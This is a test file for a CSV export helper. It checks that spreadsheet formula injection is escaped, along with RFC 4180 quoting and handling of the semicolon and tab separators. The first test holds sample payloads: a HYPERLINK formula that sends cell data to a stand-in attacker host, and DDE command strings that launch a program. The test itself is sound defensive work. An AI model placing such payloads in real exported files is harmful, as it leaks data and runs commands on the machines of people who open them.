import { expect, test } from 'bun:test';
import { csvCell, toCsv } from './csv';

test('a cell a spreadsheet would run as a formula is kept as text: =, +, -, @, tab and carriage return', () => {
  expect(csvCell('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
  expect(csvCell("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
  expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe(`'-2+3+cmd|' /C calc'!A0`);
  expect(csvCell('@SUM(1+1)*cmd')).toBe(`'@SUM(1+1)*cmd`);
  expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
  expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
});

test('plain numbers stay numbers, signed or not; other text is left as it is', () => {
  for (const figure of [-12, 0, 3.5, '-12', '+3.5', '-0.25', '1e5', '-2E-3']) expect(csvCell(figure)).toBe(String(figure));
  expect(csvCell('Thornwall')).toBe('Thornwall');
  expect(csvCell('a = b')).toBe('a = b');
  expect(csvCell("'=already quoted")).toBe("'=already quoted");
  expect(csvCell('-')).toBe(`'-`);
  expect(csvCell(null)).toBe('');
  expect(csvCell(undefined)).toBe('');
  expect(csvCell(true)).toBe('true');
});

test('RFC 4180: quotes doubled, a cell with a comma or line break quoted, CRLF after every row', () => {
  expect(
    toCsv([
      ['name', 'note'],
      ['Farmer, north', 'said "hi"\nthen left'],
      [1, null],
    ]),
  ).toBe('name,note\r\n"Farmer, north","said ""hi""\nthen left"\r\n1,\r\n');
  expect(toCsv([])).toBe('');
});

test('a cell with a semicolon or a tab is quoted: a spreadsheet splitting on either keeps it whole, so no part of it is a formula', () => {
  expect(csvCell('Farm;=1+1')).toBe('"Farm;=1+1"');
  expect(csvCell('Farm\t@SUM(1+1)')).toBe('"Farm\t@SUM(1+1)"');
  // Read as a `;`-separated file (quotes honoured, as spreadsheets do): one cell, the name as it was.
  const cells = splitOutsideQuotes(toCsv([['Farm;=1+1', 3]]).trimEnd(), ';');
  expect(cells).toEqual(['"Farm;=1+1",3']);
  expect(splitOutsideQuotes(toCsv([['Farm', 'Thorn;-2+cmd']]).trimEnd(), ';').some((c) => /^[=+\-@]/.test(c))).toBe(false);
});

/** Splits a row on `separator` where it stands outside quotes, as a spreadsheet set to that separator does. */
function splitOutsideQuotes(row: string, separator: string): string[] {
  const cells = [''];
  let quoted = false;
  for (const char of row) {
    if (char === '"') quoted = !quoted;
    if (char === separator && !quoted) cells.push('');
    else cells[cells.length - 1] += char;
  }
  return cells;
}
